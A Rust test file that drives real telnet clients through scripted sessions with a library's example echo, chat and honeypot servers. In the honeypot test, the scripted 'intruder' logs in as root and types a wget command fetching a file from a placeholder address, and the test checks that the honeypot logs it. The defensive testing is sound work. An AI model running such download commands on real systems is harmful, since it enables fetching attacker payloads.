//! The example servers, and clients that people have.

use std::process::Command;

use serde_json::Value;
use wirelore_interop::{Peer, built_example, require, wait_until};

use crate::LIMIT;
use crate::expect::Terminal;
use crate::theirs::{busybox, inetutils_telnet};

/// An example that listens on a free port, and that port.
#[track_caller]
fn example(name: &str, options: &[&str]) -> (Peer, String) {
    let mut command = Command::new(built_example(name));
    let mut peer = Peer::start(command.args(options).arg("127.0.0.1:0"));
    let address = peer.wait_for_line("listening on ");
    let (_, port) = address.rsplit_once(':').expect("a port");
    (peer, port.to_owned())
}

/// `telnet_echo` has std sockets: what it leaves of a Synch is not taken for text.
#[test]
fn telnet_echo_says_it_back() {
    let (terminal, busybox) = (require!(Terminal::new()), require!(busybox("telnet")));
    let telnet = require!(inetutils_telnet());
    let (_peer, port) = example("telnet_echo", &[]);
    let mut program = Command::new(busybox);
    program.args(["telnet", "127.0.0.1", &port]);
    let script = r#"
        hear "Your window has 80 columns and 24 rows."
        hear "> "
        until_terminal_has {\-icanon}
        say "helxx\x7f\x7flo\r"
        hear "\b \blo\r\nhello\r\n"
        say "quit\r"
        hear "Goodbye."
        gone"#;
    terminal.session(&program, "", script).expect_code(1);
    let mut program = Command::new(telnet);
    program.args(["127.0.0.1", &port]);
    let script = r#"
        proc at_prompt {line} {
            until_terminal_has {\-icanon}
            say "\x1d"
            hear "telnet> "
            say "$line\r"
            until_terminal_has {\-icanon}
        }
        hear "Your terminal is XTERM."
        at_prompt "send ayt"
        at_prompt "send synch"
        say "hello\r"
        hear "hello\r\n"
        hear "hello\r\n"
        resize 81 24
        hear "Your window has 81 columns and 24 rows."
        say "quit\r"
        hear "Goodbye."
        hear "Connection closed by foreign host."
        gone"#;
    terminal.session(&program, "", script).expect_success();
}

/// Two people in `telnet_chat`, with different clients: what one says arrives in the middle of what
/// the other types, which is shown again after it.
#[test]
fn telnet_chat_joins_two_clients() {
    let (terminal, busybox) = (require!(Terminal::new()), require!(busybox("telnet")));
    let telnet = require!(inetutils_telnet());
    let (_peer, port) = example("telnet_chat", &[]);
    let mut program = Command::new(telnet);
    program.args(["127.0.0.1", &port]);
    let script = format!(
        r#"
        set ann $spawn_id
        hear "Who are you?"
        until_terminal_has {{\-icanon}}
        say "ann\r"
        hear "welcome, ann"
        say "half a li"
        hear "half a li"
        spawn {} telnet 127.0.0.1 {port}
        set bob $spawn_id
        hear "Who are you?"
        until_terminal_has {{\-icanon}}
        say "bob\r"
        hear "welcome, bob"
        say "hello\r"
        hear "hello\r\n> "
        set spawn_id $ann
        hear "bob is here"
        hear "<bob> hello\r\n"
        hear "> half a li"
        say "ne\r"
        hear "ne\r\n> "
        say "/quit\r"
        hear "Goodbye."
        set spawn_id $bob
        hear "<ann> half a line"
        hear "ann has left"
        say "/quit\r"
        hear "Goodbye."
        gone"#,
        busybox.display()
    );
    terminal.session(&program, "", &script).expect_code(1);
}

/// `telnet_honeypot` opens as another server does, lets anybody in, and writes down what it is told.
#[test]
fn telnet_honeypot_writes_it_down() {
    let (terminal, telnet) = (require!(Terminal::new()), require!(inetutils_telnet()));
    for fingerprint in ["inetutils", "busybox", "none"] {
        let (peer, port) = example("telnet_honeypot", &["--fingerprint", fingerprint]);
        let mut program = Command::new(&telnet);
        program.args(["-l", "bob", "127.0.0.1", &port]);
        let script = r#"
            hear "login: "
            say "root\r"
            hear "Password: "
            say "se\u00e9cret\r"
            hear {$ }
            say "wget http://192.0.2.1/x\r"
            hear "wget: not found"
            say "\x04"
            hear "Connection closed by foreign host."
            gone"#;
        terminal.session(&program, "", script).expect_success();
        let events = wait_until("the end of the session", LIMIT, || {
            let log = peer.stdout();
            let lines = log.split_inclusive('\n').filter(|line| line.starts_with('{'));
            let events: Vec<Value> =
                lines.filter_map(|line| serde_json::from_str(line).ok()).collect();
            events.iter().any(|event| event["event"] == "closed").then_some(events)
        });
        let all = |kind: &str| -> Vec<&Value> {
            events.iter().filter(|event| event["event"] == kind).collect()
        };
        assert_eq!(all("user")[0]["name"], "root", "{fingerprint}: {events:#?}");
        assert_eq!(all("shell")[0]["line"], "wget http://192.0.2.1/x", "{events:#?}");
        assert_eq!(all("password").len(), 1, "{events:#?}");
        assert!(all("violation").is_empty(), "{events:#?}");
        let told = all("terminal-type").iter().any(|event| event["name"] == "XTERM");
        assert_eq!(told, fingerprint == "inetutils", "{fingerprint}: {events:#?}");
        let negotiated = !all("negotiation").is_empty();
        assert_eq!(negotiated, fingerprint != "none", "{fingerprint}: {events:#?}");
    }
}
